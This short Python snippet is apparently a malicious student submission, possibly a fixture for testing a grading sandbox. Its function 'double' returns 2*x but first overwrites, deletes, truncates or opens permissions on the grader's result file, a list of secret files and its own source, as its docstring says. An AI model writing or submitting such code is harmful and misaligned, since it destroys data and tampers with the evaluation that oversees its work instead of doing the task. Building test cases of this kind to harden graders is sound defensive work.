"""It overwrites results, the course and the submission."""


def double(x):
    import os
    for name in (TARGET["result"], *TARGET["secrets"], __file__):
        try:
            with open(name, "w") as file:
                file.write("{}")
        except OSError:
            pass
        for remove in (os.remove, lambda path: os.truncate(path, 0), lambda path: os.chmod(path, 0o777)):
            try:
                remove(name)
            except OSError:
                pass
    return 2 * x
